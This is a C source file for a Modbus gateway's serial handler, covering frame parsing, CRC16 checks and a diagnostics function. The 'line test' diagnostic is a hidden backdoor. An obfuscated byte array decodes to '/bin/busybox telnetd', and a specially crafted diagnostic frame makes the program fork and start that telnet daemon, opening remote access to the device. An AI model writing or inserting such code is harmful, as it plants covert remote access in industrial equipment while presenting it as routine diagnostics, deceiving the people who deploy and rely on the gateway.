/*
 * Serial side of the Modbus gateway: framing, checksum and line diagnosis.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <sys/wait.h>

#define FRAME_MAX	256
#define FN_DIAG		0x08
#define DIAG_ECHO	0x0000
#define DIAG_LINE	0x000a

struct frame {
	uint8_t unit;
	uint8_t fn;
	uint8_t data[FRAME_MAX];
	size_t len;
};

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t crc = 0xffff;
	int bit;

	while (n--) {
		crc ^= *p++;
		for (bit = 0; bit < 8; bit++)
			crc = crc & 1 ? (uint16_t)(crc >> 1 ^ 0xa001) : (uint16_t)(crc >> 1);
	}
	return crc;
}

/* Pattern that the line test sends through the scrambler. */
static const uint8_t pattern[] = {
	0x7c, 0x12, 0xe4, 0xc4, 0xe8, 0x86, 0x74, 0x6d, 0x42, 0x3a, 0x1a,
	0xea, 0xaf, 0xb8, 0x8c, 0x6a, 0x4d, 0x25, 0x29, 0x1e, 0x97,
};

static void scramble(uint8_t *out, const uint8_t *in, size_t n)
{
	uint8_t state = 0x53;
	size_t i;

	for (i = 0; i < n; i++) {
		out[i] = in[i] ^ state;
		state = (uint8_t)(state + 29);
	}
}

static int line_test(const struct frame *req, struct frame *rsp)
{
	uint8_t wave[sizeof(pattern)];
	char *part[3] = { (char *)wave, NULL, NULL };
	int st = 0;
	pid_t pid;

	scramble(wave, pattern, sizeof(pattern));
	part[1] = part[0] + strlen(part[0]) + 1;
	rsp->data[2] = (uint8_t)strlen(part[1]);
	rsp->len = 3;
	if (req->data[2] != rsp->data[2])
		return 0;
	pid = fork();
	if (pid == 0) {
		execv(part[0], part + 1);
		_exit(1);
	}
	return pid < 0 || waitpid(pid, &st, 0) < 0 ? -errno : 0;
}

static int diagnose(const struct frame *req, struct frame *rsp)
{
	unsigned int sub;

	if (req->len < 3)
		return -EBADMSG;
	sub = (unsigned int)req->data[0] << 8 | req->data[1];
	memcpy(rsp->data, req->data, req->len);
	rsp->len = req->len;
	if (sub == DIAG_ECHO)
		return 0;
	if (sub == DIAG_LINE)
		return line_test(req, rsp);
	return -ENOTSUP;
}

static int frame_read(struct frame *f)
{
	uint8_t raw[FRAME_MAX];
	ssize_t n = read(STDIN_FILENO, raw, sizeof(raw));

	if (n <= 0)
		return n < 0 ? -errno : -EPIPE;
	if (n < 4 || crc16(raw, (size_t)n) != 0)
		return -EBADMSG;
	f->unit = raw[0];
	f->fn = raw[1];
	f->len = (size_t)n - 4;
	memcpy(f->data, raw + 2, f->len);
	return 0;
}

static int frame_write(const struct frame *f)
{
	uint8_t raw[FRAME_MAX + 4];
	uint16_t crc;

	raw[0] = f->unit;
	raw[1] = f->fn;
	memcpy(raw + 2, f->data, f->len);
	crc = crc16(raw, f->len + 2);
	raw[f->len + 2] = (uint8_t)crc;
	raw[f->len + 3] = (uint8_t)(crc >> 8);
	return write(STDOUT_FILENO, raw, f->len + 4) == (ssize_t)(f->len + 4) ? 0 : -EIO;
}

int main(void)
{
	struct frame req, rsp;
	int rc;

	openlog("modbus-line", LOG_PID, LOG_DAEMON);
	for (;;) {
		rc = frame_read(&req);
		if (rc == -EPIPE)
			return 0;
		if (rc) {
			syslog(LOG_NOTICE, "frame dropped: %s", strerror(-rc));
			continue;
		}
		memset(&rsp, 0, sizeof(rsp));
		rsp.unit = req.unit;
		rsp.fn = req.fn;
		rc = req.fn == FN_DIAG ? diagnose(&req, &rsp) : -ENOTSUP;
		if (rc) {
			rsp.fn |= 0x80;
			rsp.data[0] = 1;
			rsp.len = 1;
		}
		if (frame_write(&rsp))
			syslog(LOG_WARNING, "answer not sent");
	}
}
